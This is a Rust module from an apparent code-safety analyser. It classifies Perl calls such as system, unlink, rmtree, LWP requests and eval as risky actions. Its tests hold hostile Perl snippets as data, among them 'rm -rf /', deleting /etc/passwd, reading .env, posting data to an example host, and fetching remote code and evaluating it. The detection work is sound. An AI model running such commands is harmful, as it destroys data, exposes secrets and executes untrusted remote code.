//! Perl.

use super::acts::Act;

pub(super) fn act(name: &str) -> Option<Act> {
    let name = name
        .trim_start_matches("CORE.")
        .trim_start_matches("GLOBAL.")
        .trim_start_matches("POSIX.");
    Some(match name {
        "system" | "exec" => Act::System,
        // Raku has `shell`.
        "readpipe" | "shell" => Act::Shell,
        "chdir" => Act::Enter,
        "unlink" | "rmdir" => Act::Delete { recursive: false },
        "rmtree" | "remove_tree" | "File.Path.rmtree" | "File.Path.remove_tree" => {
            Act::Delete { recursive: true }
        }
        "open" => Act::OpenHandle,
        "rename" | "move" | "File.Copy.move" => Act::Move,
        "copy" | "File.Copy.copy" | "symlink" | "link" => Act::Copy,
        "mkdir" => Act::Write,
        "chmod" => Act::WriteSecond,
        "truncate" => Act::Write,
        "get" | "getstore" | "mirror" | "LWP.Simple.get" => Act::Fetch("GET"),
        "IO.Socket.INET.new" | "IO.Socket.IP.new" | "IO.Socket.SSL.new" | "inet_aton" => {
            Act::Connect
        }
        "eval" => Act::Eval,
        _ => return user_agent(name),
    })
}

/// `LWP::UserAgent->new->post(…)`, `HTTP::Tiny->new()->get(…)`.
fn user_agent(name: &str) -> Option<Act> {
    let (client, verb) = name.rsplit_once('.')?;
    if !matches!(
        client.trim_end_matches("()"),
        "LWP.UserAgent.new" | "HTTP.Tiny.new"
    ) {
        return None;
    }
    match verb {
        "get" => Some(Act::Fetch("GET")),
        "post" | "post_form" => Some(Act::Fetch("POST")),
        "put" => Some(Act::Fetch("PUT")),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::code::check;
    use crate::reading::Language::Perl;

    #[test]
    fn commands() {
        check(Perl, "system(\"rm -rf /\")", &["shell rm -rf /"]);
        check(Perl, "system 'rm', '-rf', '/';", &["argv rm -rf /"]);
        check(Perl, "my @a = qw(rm -rf /); system(@a)", &["argv rm -rf /"]);
        check(
            Perl,
            "exec \"rm -rf $dir\" if $x;",
            &["shell rm -rf ${unknown}"],
        );
        check(Perl, "my $d = '/'; exec \"rm -rf $d\"", &["shell rm -rf /"]);
        check(Perl, "`rm -rf /`", &["shell rm -rf /"]);
        check(Perl, "print qx{rm -rf /};", &["shell rm -rf /"]);
        check(Perl, "qx/id/", &["shell id"]);
        check(Perl, "system(q(rm -rf ) . '/')", &["shell rm -rf /"]);
        check(Perl, "system(\"rm -rf $ENV{HOME}\")", &["shell rm -rf ~"]);
        check(
            Perl,
            "open(F, '-|', 'id'); open(G, '|-', 'sh', '-c', 'id'); open(H, 'id|')",
            &["shell id", "argv sh -c id", "shell id"],
        );
        check(
            Perl,
            "system(<<EOF);\nrm -rf /\nEOF\n",
            &["shell rm -rf /\n"],
        );
        check(Perl, "eval 'system(\"id\")'", &["shell id"]);
    }

    #[test]
    fn files() {
        check(
            Perl,
            "unlink '/etc/passwd', '/x'",
            &["delete /etc/passwd", "delete /x"],
        );
        check(Perl, "unlink glob('/etc/*')", &["delete /etc/*"]);
        check(Perl, "use File::Path; rmtree('/')", &["delete -r /"]);
        check(
            Perl,
            "File::Path::remove_tree('/', {safe => 0})",
            &["delete -r /"],
        );
        check(
            Perl,
            "open(my $f, '>', '/etc/hosts') or die",
            &["write /etc/hosts"],
        );
        check(Perl, "open F, '>>/etc/hosts';", &["write /etc/hosts"]);
        check(Perl, "open(F, '.env')", &["read .env"]);
    }

    #[test]
    fn network() {
        check(
            Perl,
            "LWP::UserAgent->new->post('https://h.example', {a => 1})",
            &["POST https://h.example sends"],
        );
        check(
            Perl,
            "use Socket; connect(S, sockaddr_in(80, inet_aton('h.example')))",
            &["connect h.example sends"],
        );
        check(
            Perl,
            "use LWP::Simple; eval(get('https://h.example'))",
            &["remote code https://h.example", "GET https://h.example"],
        );
    }

    #[test]
    fn data() {
        check(Perl, "print \"rm -rf /\\n\"", &[]);
        check(Perl, "s/system('rm')/x/; y/a/b/; m{unlink('/')}", &[]);
        check(
            Perl,
            "# system('rm -rf /')\n=pod\n\nsystem('rm')\n\n=cut\n",
            &[],
        );
        check(Perl, "my %h = (s => 'rm -rf /', y => 1, q => 2);", &[]);
        check(Perl, "$s =~ s/a/b/g; $x{system} = 'rm'", &[]);
        check(Perl, "", &[]);
    }
}
